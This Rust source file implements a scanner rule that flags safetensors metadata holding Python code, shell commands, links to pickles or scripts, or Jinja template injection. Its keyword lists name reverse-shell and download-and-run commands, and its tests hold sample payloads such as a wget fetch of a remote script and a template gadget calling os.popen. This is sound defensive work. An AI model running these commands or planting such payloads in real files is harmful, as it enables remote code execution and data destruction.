//! MDL054 and its check: content checks of safetensors `__metadata__` strings. The
//! format stores no code, so metadata that reads as Python, as shell commands, as a
//! link to a pickle or script, or as a template payload is either a staged attack (a
//! loader or a pipeline that evaluates metadata) or a lure; either way a posture tool
//! reports it. Chat templates stored in metadata go through the template analysis.

use crate::gguf::template::{Signal, analyze_template};
use aispm_core::analyzer::TimeLimitReached;
use aispm_core::framework::*;
use aispm_core::{Category, RawFinding, Rule, Severity};

/// MDL054: safetensors `__metadata__` holds code, commands, risky links or template payloads.
pub static RULE: Rule = Rule {
    id: "MDL054",
    name: "safetensors-suspicious-metadata",
    title: "safetensors metadata holds code, shell commands, risky links or template payloads",
    category: Category::Model,
    severity: Severity::Medium,
    what: "Reports `__metadata__` strings of a safetensors file that read as Python \
(`import os`, `os.system`, `eval(`, `__import__`), as shell commands (`rm -rf`, \
`chmod 777`, `wget http…`, `| sh`), as links to pickles, scripts or executables, or as Jinja \
templates with injection gadgets (reported at the template's severity).",
    why: "safetensors was made so that loading weights runs no code; its metadata is plain \
text. Code and commands there only matter to a pipeline that evaluates metadata, which is \
exactly what such strings are staged for, and links to pickles invite users to fetch the \
unsafe format instead.",
    example: "`{\"__metadata__\": {\"model_info\": \"import os; os.system('echo pwned')\"}}`",
    remediation: "Do not feed metadata of this file to any evaluator, shell or template \
engine; review who produced it and obtain the model again from a trusted source.",
    controls: &[
        LLM03,
        LLM05,
        ML06,
        ATLAS_T0010_003,
        ATLAS_T0011_000,
        ATLAS_M0014,
        NIST_MEASURE_2_7,
    ],
};

/// The findings of a header's `__metadata__` strings (`entries`, in order); `check`
/// is the per-file time limit.
pub(crate) fn check(
    path: &str,
    entries: &[(String, String)],
    check: &mut dyn FnMut() -> Result<(), TimeLimitReached>,
    out: &mut Vec<RawFinding>,
) -> Result<(), TimeLimitReached> {
    for h in check_metadata(entries, check)? {
        let value = entries
            .iter()
            .find(|(k, _)| *k == h.key)
            .map(|(_, v)| v.as_str())
            .unwrap_or_default();
        out.push(
            RawFinding::new(
                &RULE,
                path,
                format!("`__metadata__` value `{}` holds {}", h.key, h.what),
            )
            .severity(h.severity)
            .evidence(format!(
                "{}: {}",
                h.key,
                crate::gguf::template::truncate(value, 200)
            ))
            .key(h.key.clone()),
        );
    }
    Ok(())
}

/// One suspicious metadata value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MetadataHit {
    pub key: String,
    pub severity: Severity,
    pub what: String,
}

/// `__metadata__` entries checked per file; the analyzer counts the rest in a limit
/// record.
pub const MAX_ENTRIES: usize = 4096;
/// Bytes of one value checked (training configs can be long); longer values are
/// checked on their first part and counted in a limit record.
pub const MAX_VALUE: usize = 1 << 20;

/// Python that imports, executes or deserialises.
const CODE: &[&str] = &[
    "import os",
    "import subprocess",
    "import sys",
    "import socket",
    "from os import",
    "from subprocess import",
    "__import__",
    "os.system",
    "os.popen",
    "os.exec",
    "subprocess.",
    "eval(",
    "exec(",
    "pickle.loads",
    "marshal.loads",
    "b64decode(",
    "__builtins__",
    "__globals__",
    "__subclasses__",
    "getattr(",
    "compile(",
    "importlib",
    "socket.socket",
    "urllib.request",
    "requests.get(",
    "requests.post(",
];

/// Shell commands.
const SHELL: &[&str] = &[
    "rm -rf",
    "rm -fr",
    "chmod 777",
    "chmod +x",
    "chmod u+s",
    "wget http",
    "wget ftp",
    "curl http",
    "curl -s",
    "curl -o",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -c",
    "sh -c",
    "bash -i",
    "/bin/sh",
    "/bin/bash",
    "/dev/tcp/",
    "nc -e",
    "ncat -e",
    "mkfifo",
    "powershell",
    "cmd.exe",
    "certutil -urlcache",
    "base64 -d",
    "crontab",
];

/// File types a link in metadata should not point to.
const RISKY_LINK_SUFFIXES: &[&str] = &[
    ".pkl", ".pickle", ".pt", ".pth", ".ckpt", ".joblib", ".dill", ".sh", ".exe", ".ps1", ".bat",
    ".dll", ".so", ".py",
];

fn risky_link(lower: &str) -> Option<String> {
    let mut rest = lower;
    while let Some(i) = rest.find("://") {
        // Bytes after the last non-alphanumeric byte are ASCII: a char boundary.
        let start = rest.as_bytes()[..i]
            .iter()
            .rposition(|b| !b.is_ascii_alphanumeric())
            .map_or(0, |p| p + 1);
        let scheme = &rest[start..i];
        let tail = &rest[i + 3..];
        let end = tail
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')'))
            .unwrap_or(tail.len());
        let url = &tail[..end];
        let path = url.split(['?', '#']).next().unwrap_or(url);
        if matches!(scheme, "http" | "https" | "ftp" | "s3" | "gs")
            && let Some(sfx) = RISKY_LINK_SUFFIXES.iter().find(|s| path.ends_with(*s))
        {
            return Some(format!("link to a `{sfx}` file"));
        }
        rest = &tail[end..];
    }
    None
}

/// Checks metadata values; `check` is the per-file time limit.
pub fn check_metadata(
    entries: &[(String, String)],
    check: &mut dyn FnMut() -> Result<(), TimeLimitReached>,
) -> Result<Vec<MetadataHit>, TimeLimitReached> {
    let mut hits = Vec::new();
    for (key, value) in entries.iter().take(MAX_ENTRIES) {
        check()?;
        // Bounded: values can be long (training configs); look at the first 1 MB.
        let v = crate::gguf::template::truncate(value, MAX_VALUE);
        if v.contains("{{") || v.contains("{%") {
            let found = analyze_template(&v, check)?;
            if let Some(f) = found
                .iter()
                .filter(|f| f.signal != Signal::Malformed)
                .max_by_key(|f| f.severity)
            {
                hits.push(MetadataHit {
                    key: key.clone(),
                    severity: f.severity,
                    what: format!("template payload ({})", f.items.join("; ")),
                });
                continue;
            }
        }
        let lower = v.to_ascii_lowercase();
        let mut what: Vec<String> = Vec::new();
        if let Some(p) = CODE
            .iter()
            .find(|p| lower.contains(&p.to_ascii_lowercase()))
        {
            what.push(format!("Python code (`{p}`)"));
        }
        if let Some(p) = SHELL.iter().find(|p| lower.contains(*p)) {
            what.push(format!("shell command (`{p}`)"));
        }
        if let Some(l) = risky_link(&lower) {
            what.push(l);
        }
        if !what.is_empty() {
            hits.push(MetadataHit {
                key: key.clone(),
                severity: Severity::Medium,
                what: what.join(", "),
            });
        }
    }
    Ok(hits)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(pairs: &[(&str, &str)]) -> Vec<MetadataHit> {
        let e: Vec<(String, String)> = pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        check_metadata(&e, &mut || Ok(())).unwrap()
    }

    #[test]
    fn suspicious_values() {
        assert_eq!(
            hits(&[("m", "import os; os.system('echo pwned')")]).len(),
            1
        );
        assert_eq!(
            hits(&[
                ("c", "chmod 777 /tmp/x"),
                ("s", "rm -rf /tmp/t && wget http://x.invalid/s.sh")
            ])
            .len(),
            2
        );
        assert_eq!(
            hits(&[("u", "see https://x.invalid/model.pkl?dl=1")]).len(),
            1
        );
        let t = hits(&[(
            "chat_template",
            "{{ cycler.__init__.__globals__.os.popen('id') }}",
        )]);
        assert_eq!(t[0].severity, Severity::Critical);
    }

    #[test]
    fn multibyte_text_around_links() {
        assert_eq!(hits(&[("u", "ꥥ://x ꥥhttp://x.invalid/a.sh")]).len(), 1);
    }

    #[test]
    fn ordinary_values_are_clean() {
        assert!(
            hits(&[
                ("format", "pt"),
                ("license", "apache-2.0"),
                (
                    "description",
                    "A small transformer model for text classification"
                ),
                ("accuracy", "94.5%"),
                (
                    "source",
                    "https://huggingface.co/org/model/resolve/main/model.safetensors"
                ),
                (
                    "ss_network_args",
                    "{\"conv_dim\": \"4\", \"algo\": \"lora\"}"
                ),
                (
                    "chat_template",
                    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
                ),
            ])
            .is_empty()
        );
    }
}
